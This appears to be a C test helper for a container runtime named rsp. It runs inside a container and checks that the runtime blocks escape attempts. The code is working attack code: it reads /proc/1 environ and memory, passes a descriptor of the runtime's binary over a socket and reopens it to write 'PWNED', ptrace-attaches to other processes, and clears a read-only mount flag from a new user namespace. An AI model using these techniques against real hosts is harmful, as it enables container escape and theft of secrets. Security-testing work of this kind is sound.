/* Attacks on rsp from inside a container (issue 14), built static by the
 * tests and run as a container's command:
 *
 *   attack hold SOCK      open /proc/1/exe (O_PATH) and /proc/1/{environ,
 *                         mem,root,cwd}, print what the kernel said, and
 *                         hand the O_PATH descriptor (if any) to the first
 *                         client of the unix socket SOCK; then exit
 *   attack take SOCK GO   take that descriptor, wait for the file GO, then
 *                         reopen it O_WRONLY|O_APPEND and write to it
 *   attack ptrace PID     PTRACE_ATTACH and PTRACE_SEIZE PID
 *   attack poll STOP SECRET
 *                         until the file STOP exists: every ~1 ms look at
 *                         each other process in /proc; where its exe link
 *                         cannot be read (a process of rsp's that the
 *                         kernel hides), also try environ and an O_PATH
 *                         open of exe; print a summary, with LEAK lines
 *                         for anything that must not happen
 *   attack catch          wait for one such process besides pid 1 and
 *                         try exe, environ, mem and PTRACE_ATTACH on it
 *   attack unlock FD      with a handle on rsp's image: in a user and
 *                         mount namespace of our own, clear its mount's
 *                         read-only flag, clone it, reopen it to write
 *
 * Every line printed is "name: result" so the tests can match them.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <sched.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <stdarg.h>

static const char *res(int r) { return r >= 0 ? "ok" : strerrorname_np(errno); }

/* printf without stdio: stdio's first write fstat()s stdout, which the
 * ownership filter hands to its supervisor, which a test may have
 * stopped. */
static void say(const char *fmt, ...) {
    char buf[4096];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(buf, sizeof buf, fmt, ap);
    va_end(ap);
    if (n > (int)sizeof buf - 1) n = sizeof buf - 1;
    if (n > 0) write(1, buf, n);
}

/* /proc's pids, through getdents64: opendir() fstat()s too. */
static int list_pids(int *out, int max) {
    int fd = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC), n = 0;
    char buf[32768];
    for (;;) {
        long got = syscall(SYS_getdents64, fd, buf, sizeof buf);
        if (got <= 0) break;
        for (long off = 0; off < got;) {
            struct dirent64 *d = (struct dirent64 *)(buf + off);
            int pid = atoi(d->d_name);
            if (pid > 0 && n < max) out[n++] = pid;
            off += d->d_reclen;
        }
    }
    close(fd);
    return n;
}

/* Whether `fd` is a file of the container's own tree: the path the
 * kernel gives for it leads to the same file. rsp's image (a detached
 * mount, a memfd or a host path) does not. */
static int in_container(int fd) {
    char p[64], link[4096];
    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(p, link, sizeof link - 1);
    if (n <= 0) return 0;
    link[n] = 0;
    struct stat a, b;
    if (fstatat(fd, "", &a, AT_EMPTY_PATH) || lstat(link, &b)) return 0;
    return a.st_dev == b.st_dev && a.st_ino == b.st_ino && link[0] == '/' && strcmp(link, "/");
}

static int unix_sock(const char *path, int server) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    strncpy(a.sun_path, path, sizeof a.sun_path - 1);
    if (server) {
        unlink(path);
        if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 1)) return -1;
        return s;
    }
    for (int i = 0; i < 2000; i++) {
        if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) return s;
        usleep(10000);
    }
    return -1;
}

static int hold(const char *sock) {
    int exe = open("/proc/1/exe", O_PATH);
    say("exe-open: %s\n", res(exe));
    char link[4096];
    ssize_t n = readlink("/proc/1/exe", link, sizeof link - 1);
    say("exe-readlink: %s\n", res((int)n));
    int env = open("/proc/1/environ", O_RDONLY);
    say("environ: %s\n", res(env));
    if (env >= 0) {
        char buf[65536];
        ssize_t got = read(env, buf, sizeof buf);
        say("environ-bytes: %zd\n", got);
        for (ssize_t i = 0; i < got; i++)
            if (buf[i] == 0) buf[i] = '\n';
        if (got > 0) write(1, buf, got);
    }
    say("mem: %s\n", res(open("/proc/1/mem", O_RDONLY)));
    say("root: %s\n", res(open("/proc/1/root/", O_PATH)));
    say("cwd: %s\n", res(open("/proc/1/cwd/", O_PATH)));
    int s = unix_sock(sock, 1);
    int c = accept(s, 0, 0);
    char b = exe >= 0 ? 'F' : 'N';
    struct iovec iov = {&b, 1};
    union {
        char buf[CMSG_SPACE(sizeof(int))];
        struct cmsghdr align;
    } u;
    struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1};
    if (exe >= 0) {
        m.msg_control = u.buf;
        m.msg_controllen = sizeof u.buf;
        struct cmsghdr *cm = CMSG_FIRSTHDR(&m);
        cm->cmsg_level = SOL_SOCKET;
        cm->cmsg_type = SCM_RIGHTS;
        cm->cmsg_len = CMSG_LEN(sizeof(int));
        memcpy(CMSG_DATA(cm), &exe, sizeof(int));
    }
    say("sent: %s\n", res((int)sendmsg(c, &m, 0)));
    return 0;
}

static int take(const char *sock, const char *go) {
    int s = unix_sock(sock, 0);
    say("connect: %s\n", res(s));
    char b = 0;
    struct iovec iov = {&b, 1};
    union {
        char buf[CMSG_SPACE(sizeof(int))];
        struct cmsghdr align;
    } u;
    struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof u.buf};
    ssize_t r = recvmsg(s, &m, 0);
    struct cmsghdr *cm = r > 0 ? CMSG_FIRSTHDR(&m) : 0;
    int fd = -1;
    if (cm && cm->cmsg_type == SCM_RIGHTS) memcpy(&fd, CMSG_DATA(cm), sizeof(int));
    say("received: %s\n", fd >= 0 ? "descriptor" : "nothing");
    for (int i = 0; i < 6000 && access(go, F_OK) != 0; i++) usleep(10000);
    if (fd < 0) return 0;
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int w = open(path, O_WRONLY | O_APPEND);
    say("reopen-write: %s\n", res(w));
    if (w >= 0) say("write: %s\n", res((int)write(w, "PWNED", 5)));
    int t = open(path, O_WRONLY | O_TRUNC);
    say("reopen-trunc: %s\n", res(t));
    return 0;
}

/* With a descriptor of rsp's image (inherited as FD): as container root
 * would, in a user and mount namespace of our own, try to clear the
 * mount's read-only flag, clone it, and reopen it for writing. */
static int unlock(int fd) {
    say("unshare: %s\n", res(unshare(CLONE_NEWUSER | CLONE_NEWNS)));
    struct mount_attr {
        unsigned long long attr_set, attr_clr, propagation, userns_fd;
    } at = {.attr_clr = 0x1 /* MOUNT_ATTR_RDONLY */};
    say("setattr: %s\n", res((int)syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &at, sizeof at)));
    say("clone: %s\n", res((int)syscall(SYS_open_tree, fd, "", 1 /* OPEN_TREE_CLONE */ | AT_EMPTY_PATH)));
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int w = open(path, O_WRONLY | O_APPEND);
    say("reopen-write: %s\n", res(w));
    if (w >= 0) say("write: %s\n", res((int)write(w, "PWNED", 5)));
    return 0;
}

static int do_ptrace(int pid) {
    long a = ptrace(PTRACE_ATTACH, pid, 0, 0);
    say("attach: %s\n", res((int)a));
    if (a == 0) {
        waitpid(pid, 0, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    long s = ptrace(PTRACE_SEIZE, pid, 0, 0);
    say("seize: %s\n", res((int)s));
    if (s == 0) ptrace(PTRACE_DETACH, pid, 0, 0);
    return 0;
}

#define MAXPIDS 65536
static unsigned char seen[MAXPIDS];

static int poll_procs(const char *stop, const char *secret) {
    int self = getpid(), hidden = 0, scans = 0, leaks = 0;
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    static int pids[MAXPIDS];
    while (access(stop, F_OK) != 0) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (now.tv_sec - start.tv_sec > 300) break; /* bounded */
        scans++;
        int n = list_pids(pids, MAXPIDS);
        for (int i = 0; i < n; i++) {
            int pid = pids[i];
            if (pid <= 1 || pid == self || pid >= MAXPIDS) continue;
            char p[64], link[4096];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            if (readlink(p, link, sizeof link - 1) >= 0) continue;
            if (errno != EACCES) continue;
            if (!seen[pid]) hidden++;
            seen[pid] = 1;
            /* It may execute its command meanwhile: only a handle on
             * something outside the container's tree is a leak. */
            int exe = open(p, O_PATH);
            if (exe >= 0) {
                if (!in_container(exe)) {
                    say("LEAK exe-open %d\n", pid);
                    leaks++;
                }
                close(exe);
            }
            snprintf(p, sizeof p, "/proc/%d/environ", pid);
            int env = open(p, O_RDONLY);
            if (env >= 0) {
                char buf[65536];
                ssize_t got = read(env, buf, sizeof buf);
                if (got > 0 && memmem(buf, got, secret, strlen(secret))) {
                    say("LEAK environ %d\n", pid);
                    leaks++;
                }
                close(env);
            }
        }
        usleep(1000);
    }
    say("scans: %d\nhidden: %d\nleaks: %d\n", scans, hidden, leaks);
    return 0;
}

/* The first process other than pid 1 and ourselves whose exe is hidden:
 * what the kernel gives of it. */
static int catch_one(void) {
    int self = getpid();
    static int pids[MAXPIDS];
    for (int round = 0; round < 60000; round++) {
        int n = list_pids(pids, MAXPIDS);
        for (int i = 0; i < n; i++) {
            int pid = pids[i];
            if (pid <= 1 || pid == self) continue;
            char p[64], link[4096];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            if (readlink(p, link, sizeof link - 1) >= 0 || errno != EACCES) continue;
            say("caught: %d\n", pid);
            say("exe-open: %s\n", res(open(p, O_PATH)));
            snprintf(p, sizeof p, "/proc/%d/environ", pid);
            say("environ: %s\n", res(open(p, O_RDONLY)));
            snprintf(p, sizeof p, "/proc/%d/mem", pid);
            say("mem: %s\n", res(open(p, O_RDONLY)));
            long a = ptrace(PTRACE_ATTACH, pid, 0, 0);
            say("attach: %s\n", res((int)a));
            if (a == 0) {
                waitpid(pid, 0, __WALL);
                ptrace(PTRACE_DETACH, pid, 0, 0);
            }
            return 0;
        }
        usleep(1000);
    }
    say("caught: nothing\n");
    return 1;
}

int main(int argc, char **argv) {
    if (argc == 3 && !strcmp(argv[1], "hold")) return hold(argv[2]);
    if (argc == 4 && !strcmp(argv[1], "take")) return take(argv[2], argv[3]);
    if (argc == 3 && !strcmp(argv[1], "ptrace")) return do_ptrace(atoi(argv[2]));
    if (argc == 4 && !strcmp(argv[1], "poll")) return poll_procs(argv[2], argv[3]);
    /* Ends with exit, not exit_group: the id filter hands exit_group to
     * the supervisor, which this test has stopped. */
    if (argc == 2 && !strcmp(argv[1], "catch")) syscall(SYS_exit, catch_one());
    if (argc == 3 && !strcmp(argv[1], "unlock")) return unlock(atoi(argv[2]));
    say("usage: attack hold|take|ptrace|poll ...\n");
    return 2;
}
